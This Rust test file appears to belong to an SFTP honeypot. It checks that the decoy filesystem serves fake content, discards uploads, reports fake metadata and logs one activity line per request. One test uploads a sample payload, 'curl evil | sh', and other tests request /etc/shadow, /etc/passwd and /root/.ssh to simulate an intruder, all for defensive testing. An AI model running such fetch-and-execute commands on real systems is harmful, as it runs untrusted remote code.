//! Decoy filesystem tests
//!
//! Content lookup, fabricated metadata, and the one-record-per-request
//! activity trail.

use flytrap_sftp::catalog::SYNTHETIC_MODE;
use flytrap_sftp::decoy_fs::FALLBACK_CONTENT;
use flytrap_sftp::{CatalogEntry, Config, DecoyFs, FileHandlers, Method, Recorder, Request};
use std::collections::HashSet;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;
use tempfile::TempDir;

const PEER_IP: &str = "203.0.113.77";
const PEER_USER: &str = "oracle";

fn catalog_config() -> Config {
    let mut config = Config::default();
    config.catalog.insert(
        "/home/oracle/backup.sql".to_string(),
        CatalogEntry {
            name: "backup.sql".to_string(),
            content: "INSERT INTO users VALUES ('admin', 'hunter2');".to_string(),
        },
    );
    config.catalog.insert(
        "/home/oracle/.env".to_string(),
        CatalogEntry {
            name: ".env".to_string(),
            content: "AWS_SECRET_ACCESS_KEY=decoy".to_string(),
        },
    );
    config
}

fn decoy(config: Config, telemetry_dir: &Path) -> (DecoyFs, Arc<Recorder>) {
    let recorder = Arc::new(Recorder::with_paths(
        telemetry_dir.join("activity.log"),
        telemetry_dir.join("users.json"),
    ));
    let fs = DecoyFs::new(Arc::new(config), recorder.clone(), PEER_IP, PEER_USER);
    (fs, recorder)
}

async fn activity_lines(recorder: &Recorder, telemetry_dir: &Path) -> Vec<String> {
    recorder.flush().await.unwrap();
    std::fs::read_to_string(telemetry_dir.join("activity.log"))
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect()
}

/// Paths outside the catalog serve the fallback content
#[tokio::test]
async fn test_read_unknown_path_serves_fallback() {
    let dir = TempDir::new().unwrap();
    let (fs, _) = decoy(catalog_config(), dir.path());

    let reader = fs
        .file_read(&Request::new(Method::Get, "/etc/shadow"))
        .await
        .unwrap();

    assert_eq!(reader.read_at(0, 4096).unwrap(), FALLBACK_CONTENT.as_bytes());
    assert!(reader.read_at(FALLBACK_CONTENT.len() as u64, 4096).is_none());
}

/// Catalog paths serve their configured content
#[tokio::test]
async fn test_read_catalog_path_serves_content() {
    let dir = TempDir::new().unwrap();
    let (fs, _) = decoy(catalog_config(), dir.path());

    let reader = fs
        .file_read(&Request::new(Method::Get, "/home/oracle/.env"))
        .await
        .unwrap();

    assert_eq!(reader.read_at(0, 1024).unwrap(), "AWS_SECRET_ACCESS_KEY=decoy".as_bytes());
    assert_eq!(reader.read_at(4, 6).unwrap(), "SECRET".as_bytes());
}

/// Uploads succeed and leave nothing behind
#[tokio::test]
async fn test_write_discards_data() {
    let dir = TempDir::new().unwrap();
    let (fs, _) = decoy(Config::default(), dir.path());

    let mut writer = fs
        .file_write(&Request::new(Method::Put, "/tmp/payload.sh"))
        .await
        .unwrap();
    assert_eq!(writer.write_at(0, b"#!/bin/sh\ncurl evil | sh\n"), 25);
    assert_eq!(writer.bytes_discarded(), 25);

    assert!(!dir.path().join("payload.sh").exists());
}

/// Any path can be stat'ed and looks like a world-writable file
#[tokio::test]
async fn test_stat_reports_every_path_as_existing() {
    let dir = TempDir::new().unwrap();
    let (fs, _) = decoy(Config::default(), dir.path());

    let listing = fs
        .file_list(&Request::new(Method::Stat, "/definitely/not/here"))
        .await
        .unwrap();

    assert_eq!(listing.len(), 1);
    let entry = &listing.entries()[0];
    assert_eq!(entry.name, "/definitely/not/here");
    assert_eq!(entry.mode, SYNTHETIC_MODE);
    assert!(!entry.is_dir);
}

/// Listing any directory returns the catalog names
#[tokio::test]
async fn test_list_returns_catalog_names() {
    let dir = TempDir::new().unwrap();
    let (fs, _) = decoy(catalog_config(), dir.path());

    for path in ["/", "/var/empty"] {
        let listing = fs.file_list(&Request::new(Method::List, path)).await.unwrap();
        let names: HashSet<_> = listing.entries().iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, HashSet::from(["backup.sql", ".env"]));
    }
}

/// An empty catalog lists nothing
#[tokio::test]
async fn test_list_with_empty_catalog() {
    let dir = TempDir::new().unwrap();
    let (fs, _) = decoy(Config::default(), dir.path());

    let listing = fs.file_list(&Request::new(Method::List, "/")).await.unwrap();
    assert!(listing.is_empty());
}

/// Readlink resolves to nothing
#[tokio::test]
async fn test_readlink_is_empty() {
    let dir = TempDir::new().unwrap();
    let (fs, _) = decoy(catalog_config(), dir.path());

    let listing = fs
        .file_list(&Request::new(Method::Readlink, "/home/oracle/link"))
        .await
        .unwrap();
    assert!(listing.is_empty());
}

/// Commands always succeed
#[tokio::test]
async fn test_commands_succeed() {
    let dir = TempDir::new().unwrap();
    let (fs, _) = decoy(Config::default(), dir.path());

    for method in [Method::Setstat, Method::Remove, Method::Mkdir, Method::Rmdir] {
        assert!(fs.file_cmd(&Request::new(method, "/root/.ssh")).await.is_ok());
    }
}

/// Each handler call leaves exactly one activity line
#[tokio::test]
async fn test_each_operation_records_one_activity() {
    let dir = TempDir::new().unwrap();
    let (fs, recorder) = decoy(catalog_config(), dir.path());

    fs.file_read(&Request::new(Method::Get, "/etc/passwd")).await.unwrap();
    fs.file_write(&Request::new(Method::Put, "/tmp/x")).await.unwrap();
    fs.file_cmd(&Request::new(Method::Rename, "/tmp/x").with_target("/tmp/y"))
        .await
        .unwrap();
    fs.file_list(&Request::new(Method::List, "/")).await.unwrap();
    assert_eq!(recorder.pending_activity().await, 4);

    let lines = activity_lines(&recorder, dir.path()).await;
    assert_eq!(lines.len(), 4);

    let prefix = format!(" - IP:{} USER:{} ACTION:", PEER_IP, PEER_USER);
    assert!(lines.iter().all(|line| line.contains(&prefix)));
    assert!(lines[0].ends_with("ACTION:File Read Operation: Get, Path: /etc/passwd"));
    assert!(lines[1].ends_with("ACTION:File Write Operation: Put, Path: /tmp/x"));
    assert!(lines[2].ends_with(
        "ACTION:File Command Operation: Rename, Path: /tmp/x, Target: /tmp/y"
    ));
    assert!(lines[3].ends_with("ACTION:File List Operation: List, Path: /"));

    // Timestamp leads the line and parses as RFC 3339
    let timestamp = lines[0].split(" - ").next().unwrap();
    assert!(chrono::DateTime::parse_from_rfc3339(timestamp).is_ok());
}

/// Commands and listings stall for the command delay, reads do not
#[tokio::test(start_paused = true)]
async fn test_command_delay_applies_to_cmd_and_list() {
    let mut config = Config::default();
    config.command_delay = 3;
    let (fs, _) = decoy(config, Path::new("unused"));

    let start = tokio::time::Instant::now();
    fs.file_cmd(&Request::new(Method::Mkdir, "/tmp/a")).await.unwrap();
    assert!(start.elapsed() >= Duration::from_secs(3));

    let start = tokio::time::Instant::now();
    fs.file_list(&Request::new(Method::Stat, "/tmp/a")).await.unwrap();
    assert!(start.elapsed() >= Duration::from_secs(3));

    let start = tokio::time::Instant::now();
    fs.file_read(&Request::new(Method::Get, "/tmp/a")).await.unwrap();
    fs.file_write(&Request::new(Method::Put, "/tmp/b")).await.unwrap();
    assert!(start.elapsed() < Duration::from_secs(1));
}
